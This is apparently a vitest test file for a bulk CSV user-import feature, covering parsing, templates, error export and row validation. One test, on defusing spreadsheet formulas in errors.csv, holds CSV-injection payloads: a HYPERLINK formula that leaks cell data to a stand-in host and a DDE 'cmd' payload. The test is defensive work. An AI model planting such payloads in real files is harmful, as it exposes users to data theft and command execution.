import { describe, expect, it } from 'vitest';
import { parseCsvRecords } from '../csv/csv-reader';
import { errorsCsv, parseBulkCsv, templateCsv } from './bulk-csv';
import { bulkRowErrors, isBulkRowValid } from './bulk-row';

const row = (values: Partial<Record<string, string>> = {}) => ({
  firstName: 'Ann',
  lastName: 'Lee',
  email: 'ann@example.com',
  phoneNumber: '',
  role: 'resident',
  propertyId: 'p1',
  ...values,
});

describe('bulk CSV import (docs/SPEC.md §5)', () => {
  it('reads the header, skips empty lines, maps property manager to admin and lowercases roles', () => {
    const csv =
      '\uFEFFfirstName,lastName,email,phoneNumber,role,propertyId\r\n' +
      'Ann,Lee,ANN@example.com,555-123-4567,Property Manager,p1\r\n' +
      '\r\n , , \n' +
      '"Smith, Jr","O""Neil",b@example.com,,RESIDENT,p2\n';
    expect(parseBulkCsv(csv)).toEqual([
      row({ email: 'ANN@example.com', phoneNumber: '555-123-4567', role: 'admin' }),
      row({ firstName: 'Smith, Jr', lastName: 'O"Neil', email: 'b@example.com', propertyId: 'p2' }),
    ]);
  });

  it('keeps a quoted line break inside one cell', () => {
    expect(parseCsvRecords('a,"b\nc"\n1,2')).toEqual([
      ['a', 'b\nc'],
      ['1', '2'],
    ]);
  });

  it('offers a template with role and property columns only to non-admins', () => {
    expect(templateCsv('admin')).toBe('firstName,lastName,email,phoneNumber\r\n');
    expect(templateCsv('superadmin')).toBe('firstName,lastName,email,phoneNumber,role,propertyId\r\n');
  });

  it('exports errors.csv with RFC 4180 quoting and CRLF lines', () => {
    expect(errorsCsv([{ email: 'a@b.co', message: 'Bad, really' }])).toBe('email,message\r\na@b.co,"Bad, really"\r\n');
  });

  it('defuses uploaded cells a spreadsheet would run as formulas in errors.csv', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?leak="&A2,"Fix your row")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,2)',
      '\t=1+1',
      '\r=1+1',
    ];
    const csv = errorsCsv(hostile.map((email) => ({ email, message: 'Invalid email address.' })));
    expect(csv.split('\r\n').slice(1, 3)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Fix your row"")",Invalid email address.`,
      "'+1+cmd|' /C calc'!A0,Invalid email address.",
    ]);
    const cells = parseCsvRecords(csv)
      .slice(1)
      .map(([email]) => email);
    expect(cells).toEqual(hostile.map((email) => `'${email}`));
  });
});

describe('bulk row validation (docs/SPEC.md §5)', () => {
  it('refuses names with hidden or text-direction characters, row by row', () => {
    expect(bulkRowErrors(row({ firstName: 'Ann\u202Eeel', lastName: 'L\u200Bee' }), 'superadmin')).toEqual({
      firstName: 'First name must not contain invisible characters or characters that change the direction of text',
      lastName: 'Last name must not contain invisible characters or characters that change the direction of text',
    });
  });
  it('uses the exact messages', () => {
    expect(bulkRowErrors(row({ email: 'nope', phoneNumber: '12345' }), 'superadmin')).toEqual({
      email: 'Invalid email address.',
      phoneNumber: 'Phone number must be exactly 10 digits.',
    });
  });
  it('accepts a phone with punctuation when 10 digits remain', () => {
    expect(isBulkRowValid(row({ phoneNumber: '(555) 123-4567' }), 'superadmin')).toBe(true);
  });
  it('needs names, a role and a property, except for an admin uploader', () => {
    const bare = row({ firstName: ' ', lastName: '', role: '', propertyId: '' });
    expect(Object.keys(bulkRowErrors(bare, 'superadmin')).sort()).toEqual([
      'firstName',
      'lastName',
      'propertyId',
      'role',
    ]);
    expect(Object.keys(bulkRowErrors(bare, 'admin')).sort()).toEqual(['firstName', 'lastName']);
    expect(isBulkRowValid(row({ role: 'superadmin' }), 'superadmin')).toBe(false);
  });
});
